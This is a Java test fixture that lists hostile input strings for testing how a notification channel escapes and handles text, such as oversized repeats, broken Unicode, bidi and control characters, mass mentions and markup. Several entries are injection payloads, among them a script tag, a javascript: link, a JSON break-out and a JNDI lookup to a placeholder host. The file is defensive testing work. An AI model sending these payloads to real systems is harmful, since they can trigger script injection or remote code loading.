package io.tagwatch.notify.channel;

import java.util.LinkedHashMap;
import java.util.Map;

/** Texts that somebody wrote who does not wish us well, or who did not think. */
final class HostileTexts {
  private static final String RED = "\uD83D\uDD34";

  private HostileTexts() {}

  static Map<String, String> all() {
    Map<String, String> texts = new LinkedHashMap<>();
    texts.put("all marks of ASCII", "!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~");
    texts.put("marks only, many", "<&>\"*_`~|[]()\\".repeat(700));
    texts.put("10,000 characters", "x".repeat(10_000));
    texts.put("10,000 pairs", RED.repeat(10_000));
    texts.put("10,000 pairs, one off", "a" + RED.repeat(10_000));
    texts.put("10,000 quotes", "\"".repeat(10_000));
    texts.put("10,000 backslashes", "\\".repeat(10_000));
    texts.put("10,000 ampersands", "&".repeat(10_000));
    texts.put("10,000 lines", "line\n".repeat(10_000));
    texts.put("10,000 of three bytes", "漢".repeat(10_000));
    texts.put("half pairs", "a\uD83D b\uDD34 c\uDD34\uD83D");
    texts.put("right to left", "ok \u202Eevil\u202C \u2066isolated\u2069 \u200Fmark");
    texts.put("zero width", "z\u200Be\u200Cr\u200Do\uFEFF\u2060");
    texts.put("nothing to see", "\u200B\u200B");
    texts.put("control characters", "a\u0000b\u0001c\u001B[31md\u0007e\u007Ff\u0085g");
    texts.put("control characters only", "\u0001\u0002");
    texts.put("line separators", "one\u2028two\u2029three\r\nfour\rfive");
    texts.put("calls", "@everyone @here @room <!channel> <!here> <@U0EVIL> <@&1> <#C1> @jane");
    texts.put("Slack's marks", "*b* _i_ ~s~ `c` ```code``` <http://evil.example|x> > quote :boom:");
    texts.put(
        "Markdown", "# head\n> quote\n- item\n1. item\n[l](http://e.example/(a)b) ||spoiler||");
    texts.put("HTML", "</b></a><script>alert(1)</script><a href=\"javascript:x\">y</a> &lt;b&gt;");
    texts.put("JSON", "\"}],\"text\":\"owned\",{\"a\":\"\\u0000\"}");
    texts.put("formats", "%s %n {0} ${jndi:ldap://e.example/a} {{x}} #{y}");
    texts.put("many accents", "e" + "\u0301".repeat(3_000));
    texts.put("families", "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67".repeat(1_000));
    texts.put("no characters", "\uFFFE\uFFFF\uD83F\uDFFE");
    return texts;
  }
}
